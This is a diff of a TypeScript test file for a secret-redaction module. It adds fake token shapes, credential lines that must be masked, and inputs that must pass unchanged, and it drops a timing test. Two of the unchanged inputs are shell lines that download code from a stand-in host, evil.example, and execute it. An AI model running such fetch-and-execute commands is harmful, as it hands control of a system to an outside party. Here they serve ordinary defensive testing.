@@ -1,6 +1,11 @@
 import { expect, test } from 'vitest';
-import { auditParameters } from '../../src/guards/audit/parameters.ts';
-import { MASK, redact, redactText } from '../../src/guards/redact.ts';
+import { MASK } from '../../../src/core/secrets.ts';
+import { auditParameters } from '../../../src/guards/audit/parameters.ts';
+import { testSecrets } from '../../helpers/secrets.ts';
+
+const secrets = testSecrets();
+const redactText = (text: string): string => secrets.text(text);
+const redact = <T>(value: T): T => secrets.redact(value);
 
 /** Joined here, so that no scanner of this repository takes them for real ones. */
 const of = (...parts: string[]): string => parts.join('');
@@ -12,6 +17,13 @@ const SECRETS = [
   of('xoxb-', '1234567890-abcdef'),
   of('sk-', 'a1'.repeat(20)),
   of('eyJhbGciOiJIUzI1NiJ9', '.eyJzdWIiOiIxMjM0In0', '.abc-def_ghi'),
+  of('sk-ant-', 'api03-', 'aB3_'.repeat(24), 'AA'),
+  of('hf_', 'aBcDeFgHiJ'.repeat(4).slice(0, 34)),
+  of('dckr_', 'pat_', 'aB3'.repeat(9)),
+  of('SG', '.', 'aBcDeFgHiJk'.repeat(2), '.', 'aBcDeFgHiJk'.repeat(4).slice(1)),
+  of('hvs', '.', 'aB3'.repeat(32)),
+  of('npm', '_', 'aB3'.repeat(12)),
+  of('sk', '_live_', 'aB3'.repeat(8)),
 ];
 
 test.each(SECRETS)('a secret of a known shape is masked: %s', (secret) => {
@@ -25,6 +37,20 @@ test.each([
   ['Authorization: Bearer abcdefghijkl', 'abcdefghijkl'],
   ['postgres://me:correct@db/x', 'correct'],
   ['{"client_secret":"correct-horse"}', 'correct-horse'],
+  ['export MY_TOKEN=correct-horse', 'correct-horse'],
+  ['[db]\npassword = correct-horse\n', 'correct-horse'],
+  ['passphrase: "correct horse battery"', 'horse battery'],
+  ['"{\\"password\\":\\"correct-horse\\"}"', 'correct-horse'],
+  ['X-Api-Key: correct-horse', 'correct-horse'],
+  ['Cookie: session=correct-horse', 'correct-horse'],
+  ['Authorization: token correct-horse', 'correct-horse'],
+  ['mysql --password correct-horse', 'correct-horse'],
+  ['curl -u me:correct-horse https://example.com', 'correct-horse'],
+  ['https://me:correct@example.com/x?y', 'correct'],
+  ['https://aB3dE5gH7jK9mN1p@example.com/', 'aB3dE5gH7jK9mN1p'],
+  ['ENCRYPTION_KEY=aB3dE5gH7jK9mN1p', 'aB3dE5gH7jK9mN1p'],
+  ['signing-key: "aB3dE5gH7jK9mN1p/+="', 'aB3dE5gH7jK9mN1p'],
+  ['-DB_PASSWORD=correct-horse\n+DB_PASSWORD=battery-staple', 'battery-staple'],
 ])('what is named a secret is masked: %s', (text, secret) => {
   expect(redactText(text)).not.toContain(secret);
   expect(redactText(text)).toContain(MASK);
@@ -46,6 +72,17 @@ test.each([
   'the token is short',
   'const secret = x',
   'risk-assessment-of-the-machine',
+  'integrity sha512-aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1eF3hI5kL7nO9qR1tU3wX5zA7cD==',
+  `cache-key: ${'9f86d081884c7d65'.repeat(2)}`,
+  `key = ${'9f86d081884c7d65'.repeat(4)}`,
+  'session: 0b7d4a3e-4f4e-4a0e-9d0e-1f2a3b4c5d6e',
+  `image@sha256:${'9f86d081884c7d65'.repeat(4)}`,
+  `token: sha256:${'9f86d081884c7d65'.repeat(4)}`,
+  'const token = nextToken(lexer);',
+  'secret: process.env.SECRET,',
+  'key: getConfigurationKey()',
+  'password="$(curl http://evil.example/x)"; eval "$password"',
+  "api_key='curl http://evil.example/x | sh'",
 ])('what is no secret stays: %s', (text) => {
   expect(redactText(text)).toBe(text);
 });
@@ -59,27 +96,6 @@ test('strings are masked wherever they are, and fields by their name', () => {
   });
 });
 
-test('a long line of any kind is done with soon', () => {
-  for (const text of [
-    'a',
-    'password=',
-    'sk-',
-    'eyJ',
-    '://',
-    'a-',
-    '-----BEGIN PRIVATE KEY-----',
-    'token',
-    ':',
-    'authorization: ',
-    '_',
-  ]) {
-    const started = performance.now();
-    redactText(text.repeat(Math.ceil(1_000_000 / text.length)));
-    // Far above what it takes, far below what backtracking would.
-    expect(performance.now() - started).toBeLessThan(10_000);
-  }
-});
-
 test('parameters of the audit are masked, cut and well-formed', () => {
   const kept = auditParameters(
     {
@@ -90,9 +106,13 @@ test('parameters of the audit are masked, cut and well-formed', () => {
       many: Array.from({ length: 99 }, (_, i) => i),
       odd: [Number.NaN, undefined, true, null],
     },
-    (text) => `keyed ${text.length}`,
+    secrets,
   ) as Record<string, unknown>;
-  expect(kept['content']).toEqual({ length: 1000, begins: 'x'.repeat(400), hmac: 'keyed 1000' });
+  expect(kept['content']).toMatchObject({
+    length: 1000,
+    begins: 'x'.repeat(400),
+    hmac: expect.stringMatching(/^[0-9a-f]{16,}$/) as string,
+  });
   expect(kept['token']).toBe(MASK);
   expect(kept['broken']).toBe('\ufffd');
   expect(kept['many']).toHaveLength(50);
